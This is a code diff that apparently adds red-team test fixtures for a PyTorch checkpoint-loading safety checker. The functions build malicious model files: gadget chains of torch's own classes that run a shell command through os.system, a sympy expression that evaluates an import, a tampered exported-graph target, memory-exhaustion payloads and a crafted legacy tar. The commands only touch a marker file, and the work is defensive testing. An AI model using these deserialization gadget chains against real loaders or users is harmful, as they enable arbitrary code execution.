@@ -359,3 +359,110 @@ def a_class_as_a_value(path: Path, marker: Path) -> Path:
     model.factory = Recorder
     torch.save(model, path)
     return path
+
+
+def _method_caller(name: str) -> Any:
+    """torch._dynamo's numpy_method_wrapper: calling it calls ``getattr(args[0], name)(*args[1:])``."""
+    from torch._dynamo.utils import numpy_method_wrapper
+
+    caller = numpy_method_wrapper(name)
+    del caller.__dict__["__name__"]  # a dunder instance key would be refused; the class works without it
+    return caller
+
+
+def _shell(command: str) -> Any:
+    """A chain of torch's own plain classes that runs ``os.system(command)`` when formatted as a
+    string: LazyString -> numpy_method_wrapper -> _LazyModule (which imports "os")."""
+    from torch._logging._internal import LazyString
+    from torch.onnx._internal._lazy_import import _LazyModule
+
+    return LazyString(_method_caller("system"), _LazyModule("os"), command)
+
+
+def chained_wrappers(path: Path, marker: Path) -> Path:
+    """Three admitted-looking plain classes of torch composed into a shell command, put where
+    F.interpolate formats nn.Upsample's ``mode`` into an error message. (Found by the red team.)"""
+    model = nn.Sequential(nn.Conv2d(3, 4, 3, padding=1), nn.BatchNorm2d(4), nn.Upsample(scale_factor=2.0)).eval()
+    model[2].mode = _shell(f"touch {marker}")
+    torch.save(model, path)
+    return path
+
+
+class AsNewObj:
+    """Pickles as ``cls.__new__(cls)`` filled with ``state``: what torch.save writes for a module."""
+
+    def __init__(self, cls: type, state: dict[str, Any]) -> None:
+        self.cls, self.state = cls, state
+
+    @property  # type: ignore[misc]
+    def __class__(self) -> type:
+        return self.cls
+
+    def __reduce_ex__(self, protocol: int):
+        import copyreg
+
+        return (copyreg.__newobj__, (self.cls,), self.state)
+
+
+def module_with_its_own_setstate(path: Path, marker: Path) -> Path:
+    """torch._dynamo's OptimizedModule, whose own ``__setstate__`` calls ``self.dynamo_ctx(...)``:
+    a callable from the file's state, run inside torch.load before any check. (Found by the red team.)"""
+    from torch._dynamo.eval_frame import OptimizedModule
+    from torch._dynamo.output_graph import LazyProxy
+    from torch.export._wrapper_utils import _WrapperModule
+    from torch.onnx._internal._lazy_import import _LazyModule
+
+    proxy = LazyProxy(None, _method_caller("system"), _LazyModule("os"), f"touch {marker}")
+    state = {**vars(nn.Module()), "_orig_mod": _WrapperModule(proxy), "dynamo_ctx": _method_caller("__call__")}
+    torch.save({"model": AsNewObj(OptimizedModule, state)}, path)
+    return path
+
+
+def allocation_by_argument(path: Path, marker: Path) -> Path:
+    """An inert type called with a size: 1 GiB from a file of a few KB."""
+    torch.save({"model": tiny(), "extra": Reduces(bytearray, 2**30)}, path)
+    return path
+
+
+def numpy_array_of_any_shape(path: Path, marker: Path) -> Path:
+    import numpy as np
+
+    torch.save({"model": tiny(), "extra": Reduces(np.ndarray, (2**27,), np.dtype("O"))}, path)
+    return path
+
+
+def exported_sympy_string_argument(path: Path, marker: Path) -> Path:
+    """A string argument inside a symbolic expression, which sympy parses (evaluates) again."""
+    inner = f"Integer.__new__.__globals__['__builtins__']['__import__']('pathlib').Path({str(marker)!r}).touch()"
+
+    def edit(document: dict) -> None:
+        for value in document["graph_module"]["graph"]["tensor_values"].values():
+            for size in value["sizes"]:
+                if "as_expr" in size:
+                    size["as_expr"]["expr_str"] = f"Max({inner!r}, 2)"
+                    return
+
+    return _rewrite_program(path, edit)
+
+
+def exported_dunder_target(path: Path, marker: Path) -> Path:
+    """A node target that walks attributes of torch.ops.aten instead of naming an operator."""
+
+    def edit(document: dict) -> None:
+        for node in document["graph_module"]["graph"]["nodes"]:
+            if node["target"] == "torch.ops.aten.full.default":
+                node["target"] = "torch.ops.aten.__class__.__init__"
+
+    return _rewrite_program(path, edit)
+
+
+def legacy_tar(path: Path, member: Any) -> Path:
+    """torch's ancient tar format, with a first member whose name starts with byte 0x80 (so the
+    file looks like a pickle) and ``member`` as its "storages" (a link, a FIFO)."""
+    import tarfile
+
+    with tarfile.open(path, "w", format=tarfile.GNU_FORMAT, encoding="utf-8", errors="surrogateescape") as tar:
+        pad = tarfile.TarInfo("\udc80pad")
+        tar.addfile(pad, io.BytesIO(b""))
+        tar.addfile(member)
+    return path
